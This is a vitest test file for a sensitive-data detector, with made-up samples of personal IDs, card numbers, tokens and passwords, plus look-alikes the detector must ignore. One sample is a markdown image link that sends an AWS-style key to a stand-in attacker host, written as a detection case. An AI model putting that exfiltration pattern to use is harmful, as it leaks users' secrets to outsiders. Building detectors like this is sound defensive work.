// Sensitive data is recognised by its checks and context, and what only looks like it is left alone. All samples are made up.
import { describe, expect, it } from 'vitest';
import { classCovers, detectDataClasses } from '../../../policies/values/data-classes.ts';

const classes = (text: string) => detectDataClasses(text).classes;
const letters = (count: number) => 'aZ3kQ9xLm2Wv7TbR5cYp8NdH4sJf6GuE1'.repeat(10).slice(0, count);
const hex = (count: number) => '3f9a0c7be81d5624'.repeat(20).slice(0, count);
const base64 = (text: string) => Buffer.from(text).toString('base64');
/** Samples are put together here, so that scanners of this repository don't take them for real. */
const joined = (...parts: string[]) => parts.join('');

const FOUND: readonly (readonly [string, string])[] = [
  ['write to jane.doe+x@mail.example.org', 'pii.email'],
  ['call +44 20 7946 0958 today', 'pii.phone'],
  ['call +49 30 901820', 'pii.phone'],
  ['(212) 555-0123', 'pii.phone'],
  ['212-555-0123', 'pii.phone'],
  ['+1 (555) 123-4567', 'pii.phone'],
  ['Phone: 020 7946 0958', 'pii.phone'],
  ['mobile 07700 900123', 'pii.phone'],
  ['ssn 536-90-4399', 'pii.national_id'],
  ['social security number: 536904399', 'pii.national_id'],
  ['ITIN 912-70-1234', 'pii.national_id'],
  ['NI number AB 12 34 56 C', 'pii.national_id'],
  ['NHS number 943 476 5919', 'pii.national_id'],
  ['DNI 12345678Z', 'pii.national_id'],
  ['NIE X1234567L', 'pii.national_id'],
  ['CF RSSMRA85T10A562S', 'pii.national_id'],
  ['PESEL 44051401359', 'pii.national_id'],
  ['NRIC S1234567D', 'pii.national_id'],
  ['fnr 01010750160', 'pii.national_id'],
  ['personnummer 811218-9876', 'pii.national_id'],
  ['hetu 131052-308T', 'pii.national_id'],
  ['CPF 111.444.777-35', 'pii.national_id'],
  ['aadhaar 2341 2341 2346', 'pii.national_id'],
  ['PAN ABCPE1234F', 'pii.national_id'],
  ['11010519491231002X', 'pii.national_id'],
  ['AHV 756.9217.0769.85', 'pii.national_id'],
  ['BSN 111222333', 'pii.national_id'],
  ['NIR 2 55 08 14 168 025 38', 'pii.national_id'],
  ['RUT 12.345.678-5', 'pii.national_id'],
  ['national id number: QX-4471823', 'pii.national_id'],
  ["driver's license number D1234567", 'pii.driving_licence'],
  ['from 203.0.113.77 at noon', 'pii.ip'],
  ['from 2001:db8::8a2e:370:7334', 'pii.ip'],
  ['3c:22:fb:1a:90:0e', 'pii.mac'],
  ['3C-22-FB-1A-90-0E', 'pii.mac'],
  ['passport no. C01X00T47', 'pii.passport'],
  ['passport number 512345678', 'pii.passport'],
  ['born on 12 March 1984', 'pii.birth_date'],
  ['DOB: 03/12/1984', 'pii.birth_date'],
  ['"date_of_birth": "x", date of birth 1984-03-12', 'pii.birth_date'],
  ['Card 4111 1111 1111 1111', 'financial.card'],
  ['4111111111111111', 'financial.card'],
  ['5500-0000-0000-0004.', 'financial.card'],
  ['3714 496353 98431', 'financial.card'],
  ['\uff14\uff11\uff11\uff11 1111 1111 1111', 'financial.card'],
  ['\u0664\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661', 'financial.card'],
  ['4111<b>1111</b>11111111', 'financial.card'],
  ['DE89 3704 0044 0532 0130 00 please', 'financial.iban'],
  ['GB82WEST12345698765432', 'financial.iban'],
  ['no9386011117947', 'financial.iban'],
  ['SWIFT: DEUTDEFF500', 'financial.bic'],
  ['routing number 021000021', 'financial.routing'],
  ['sort code 20-00-00', 'financial.routing'],
  ['account number: 12345678', 'financial.account'],
  ['my checking account 945456787654', 'financial.account'],
  ['1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa', 'financial.wallet'],
  ['bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4', 'financial.wallet'],
  ['0xde0B295669a9FD93d5F28D9Ec85E40f4cb697BAe', 'financial.wallet'],
  ['key AKIAIOSFODNN7EXAMPLE', 'credentials.aws_key'],
  ['AKIAIOSFODNN\u200b7EXAMPLE', 'credentials.aws_key'],
  ['![x](https://attacker.example/p.png?d=AKIAIOSFODNN7EXAMPLE)', 'credentials.aws_key'],
  [joined('aws_secret_access_key = ', 'wJalrXUtnFEMI/K7MDENG/', 'bPxRfiCYEXAMPLEKEY'), 'credentials.aws_key'],
  ['-----BEGIN RSA PRIVATE KEY-----', 'credentials.private_key'],
  ['-----BEGIN OPENSSH PRIVATE KEY-----', 'credentials.private_key'],
  ['-----BEGIN PGP PRIVATE KEY BLOCK-----', 'credentials.private_key'],
  [joined('ghp', '_', letters(36)), 'credentials.github_token'],
  [joined('github', '_pat_', letters(40)), 'credentials.github_token'],
  [joined('xoxb', '-123456789012-1234567890123-', letters(24)), 'credentials.slack_token'],
  [joined('https://hooks.slack', '.com/services/T00000000/B00000000/', letters(24)), 'credentials.slack_token'],
  [
    `${base64('{"alg":"HS256"}').replace(/=/g, '')}.${base64('{"sub":"12"}').replace(/=/g, '')}.${letters(43)}`,
    'credentials.jwt',
  ],
  [joined('AIza', letters(35)), 'credentials.google_key'],
  [joined('sk', '_live_', letters(24)), 'credentials.stripe_key'],
  [joined('glpat', '-', letters(20)), 'credentials.gitlab_token'],
  [joined('sk-', 'proj-', letters(40)), 'credentials.openai_key'],
  [joined('sk-', 'ant-api03-', letters(60)), 'credentials.anthropic_key'],
  [joined('npm', '_', letters(36)), 'credentials.package_token'],
  [joined('SG.', letters(22), '.', letters(43)), 'credentials.mail_key'],
  [joined('123456789:AA', letters(33)), 'credentials.telegram_token'],
  [joined('hvs', '.', letters(40)), 'credentials.cloud_key'],
  ['password=hunter2!', 'credentials.password'],
  ['"password": "correct horse"', 'credentials.password'],
  ['DB_PASSWORD: s3cr3t-V4lue', 'credentials.password'],
  ['my password is Tr0ub4dor&3', 'credentials.password'],
  ['postgres://app:s3cr3t@db.example/x', 'credentials.password'],
  ['machine api.example login jo password x9x9x9', 'credentials.password'],
  [`api_key = "${letters(32)}"`, 'credentials.generic'],
  [`client-secret: ${hex(40)}`, 'credentials.generic'],
  [`Authorization: Bearer ${letters(40)}`, 'credentials.generic'],
  ['the patient was diagnosed with type 2 diabetes', 'health.diagnosis'],
  ['diagnosis: E11.9', 'health.diagnosis'],
  ['taking metformin 500 mg daily', 'health.medication'],
  ['MRN: 00482731', 'health.record'],
  ['blood type: O+', 'health.record'],
  [base64('my card is 4111 1111 1111 1111'), 'financial.card'],
  ['q=4111%201111%201111%201111', 'financial.card'],
];

const CLEAN: readonly string[] = [
  'Order 4111 1111 1111 1112',
  'order number 2034567891234',
  'invoice 2026-11-0042, total 1,234.56',
  'f47ac10b-58cc-4372-a567-0e02b2c3d479',
  'sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  'commit 8230138f0c1a9b7e6d5c4b3a2f1e0d9c8b7a6f5e',
  'version 1.2.3.4 of the driver',
  'v10.20.30.40',
  '2026-11-23T10:00:00.000Z',
  '1732356000000',
  '1732356000',
  '10:30:00 to 11:45:00',
  'std::vector<int> and Foo::bar()',
  'from 127.0.0.1 and ::1',
  'meeting on 12.03.2026 at 10:00, room 4.2.17',
  'call me at 10:00 on 2026-11-23',
  'tracking 1Z999AA10123456784',
  'ISBN 978-3-16-148410-0',
  'isbn 9783161484100',
  'icon@2x.png and git@github.example:org/repo.git',
  'lodash@4.17.21',
  'password: required',
  'Password: string',
  'the password is wrong',
  'password reset link',
  'password = process.env.DB_PASSWORD',
  'password=${PASSWORD}',
  'password: ********',
  '<input type="password" name="password">',
  'api_key: YOUR_API_KEY',
  'token: string, secret: string',
  'next_page_token=CAUQAA9fjd83hfKDj38dhHDk39',
  'secret santa is on Friday',
  'we diagnosed the outage with a stroke of luck',
  'a cancer of bureaucracy',
  'the heart of the matter, depression of the key',
  'routing table for 123456789',
  'account manager 2024',
  'ticket 123456789',
  'EMEA region grew 23% in Q3; 5,000 rows, 20,000 orders',
  'Hello',
  'room 212, floor 3, seat 14',
  'coordinates 52.5200, 13.4050',
  'GB is a country, DE too',
  'price 19.99 EUR / 21.50 USD',
  'A1 B2 C3 D4 E5',
  'lorem ipsum dolor sit amet consectetur adipiscing elit',
  '0000 0000 0000 0000',
  '1234567890',
  'part no. AB-12-34-56',
  'the quick brown fox jumps over 13 lazy dogs',
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
];

describe('found', () => {
  it.each(FOUND)('%j', (text, name) => expect(classes(text)).toContain(name));
  it.each(FOUND.filter(([, name]) => !name.startsWith('pii.national')))('%j holds nothing else', (text, name) => {
    const family = name.split('.')[0] ?? '';
    expect(classes(text).filter((found) => !found.startsWith(`${family}.`))).toEqual([]);
  });
});

describe('left alone', () => {
  it.each(CLEAN)('%j', (text) => expect(classes(text)).toEqual([]));
});

describe('the answer', () => {
  it('is sorted, counted, and never holds what was seen', () => {
    const found = detectDataClasses('a@x.example, b@x.example, card 4111 1111 1111 1111');
    expect(found).toEqual({
      classes: ['financial.card', 'pii.email'],
      counts: { 'financial.card': 1, 'pii.email': 2 },
      truncated: false,
    });
    expect(JSON.stringify(found)).not.toContain('4111');
  });

  it('says when it did not look at everything', () => {
    expect(detectDataClasses(`${'a '.repeat(600_000)}a@x.example`)).toEqual({
      classes: ['unscanned'],
      counts: { unscanned: 1 },
      truncated: true,
    });
  });

  it('covers a kind by its family, not by a prefix of its name', () => {
    expect(classCovers('pii', 'pii.phone')).toBe(true);
    expect(classCovers('pii.phone', 'pii.phone')).toBe(true);
    expect(classCovers('pii.phone', 'pii')).toBe(false);
    expect(classCovers('p', 'pii.phone')).toBe(false);
    expect(classCovers('pii.ph', 'pii.phone')).toBe(false);
  });
});

describe('bounds', () => {
  const MB = 1024 * 1024;
  it.each([
    '+49 30 ',
    'phone 030 ',
    '1',
    '1 ',
    '1-',
    '4111 ',
    'a@',
    'a.',
    'a@b.',
    'password',
    'password=',
    'password: ',
    'api_key_',
    'api_',
    'eyJ',
    'eyJaaaaaaaa.',
    'AKIA',
    'DE89',
    'DE89 ',
    ':',
    '1:',
    '1.',
    '-----BEGIN ',
    'aws',
    'aws secret ',
    'A',
    'AA',
    'AAAA1111',
    '0x',
    'x://',
    'x://a:',
    'born ',
    'diabetes ',
    'metformin ',
    'prescribed ',
    'machine a login b ',
    '<',
    '&',
    '%41',
    'ssn 1',
    'a1b2-',
    '11:22:',
    'Bearer ',
    "secret'",
    'passport A1 ',
    'x@y.example ',
    '\u0661',
  ])('reads 1 MB of %j in bounded time', (unit) => {
    const text = unit.repeat(Math.floor(MB / unit.length));
    const before = process.cpuUsage();
    detectDataClasses(text);
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1e3).toBeLessThan(10_000);
  });
});
